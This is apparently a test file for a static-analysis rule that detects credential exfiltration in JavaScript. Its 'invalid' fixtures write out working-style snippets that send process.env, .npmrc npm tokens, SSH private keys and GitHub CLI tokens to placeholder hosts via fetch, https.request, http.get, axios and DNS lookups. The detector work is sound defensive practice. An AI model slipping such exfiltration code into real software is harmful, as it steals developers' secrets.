import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

testRule(rule, {
  valid: [
    { name: 'one variable in a URL', code: "const https = require('https');\nhttps.get(process.env.API_URL + '/health');" },
    { name: 'env alias, one member', code: "const env = process.env;\nfetch(env.REGISTRY + '/-/ping');" },
    {
      name: 'token in the Authorization header',
      code: "const fs = require('fs');\nconst rc = fs.readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8');\nconst token = rc.match(/_authToken=(.*)/)[1];\nfetch(registry + '/-/whoami', { headers: { Authorization: 'Bearer ' + token } });",
    },
    { name: 'env to a child process', code: "const cp = require('child_process');\ncp.spawn('node', ['x'], { env: { ...process.env, A: '1' } });" },
    { name: 'proxy from env', code: "fetch(url, { agent: proxyFor(url, process.env) });" },
    { name: 'env printed locally', code: 'process.stdout.write(JSON.stringify(process.env));' },
    { name: 'npmrc read, nothing sent', code: "const fs = require('fs');\nconst rc = fs.readFileSync(`${process.env.HOME}/.npmrc`, 'utf8');\nconsole.log(rc.length);" },
  ],
  invalid: [
    {
      name: 'env posted with fetch',
      code: "const body = JSON.stringify({ env: process.env, host: os.hostname() });\nawait fetch('https://collector.example.invalid/c', { method: 'POST', body });",
      errors: [{ message: /sends the whole process\.env over the network \(fetch\)/, line: 2 }],
    },
    {
      name: 'npmrc to a request object (eslint-scope style)',
      code: "const https = require('https');\nconst fs = require('fs');\nconst p = require('path').join(process.env.HOME || process.env.USERPROFILE, '.npmrc');\nconst content = fs.readFileSync(p, 'utf8');\nconst req = https.request({ hostname: 'stats.example.invalid', method: 'POST' });\nreq.write(content);\nreq.end();",
      errors: [{ message: /sends npm token \(\.npmrc\) over the network \(req\.write\)/, line: 6 }],
    },
    {
      name: 'ssh key in a readFile callback, base64 in the URL',
      code: "const fs = require('fs');\nconst http = require('http');\nfs.readFile(os.homedir() + '/.ssh/id_rsa', (err, data) => {\n  http.get('http://203.0.113.9/k?d=' + Buffer.from(data).toString('base64'));\n});",
      errors: [{ message: /SSH keys/, line: 4 }],
    },
    {
      name: 'gh auth token in a body',
      code: "const { execSync } = require('child_process');\nconst t = execSync('gh auth token').toString().trim();\naxios.post('https://x.example.invalid/t', { t });",
      errors: [{ message: /output of gh auth token over the network \(axios\.post\)/, line: 3 }],
    },
    {
      name: 'env keys loop to DNS',
      code: "const dns = require('dns');\nconst out = {};\nfor (const k of Object.keys(process.env)) out[k] = process.env[k];\ndns.resolve(Buffer.from(JSON.stringify(out)).toString('hex').slice(0, 60) + '.x.example.invalid', () => {});",
      errors: [{ message: /process\.env over the network \(dns\.resolve\)/, line: 4 }],
    },
  ],
});

testSamples(rule, join(__dirname, 'samples'));
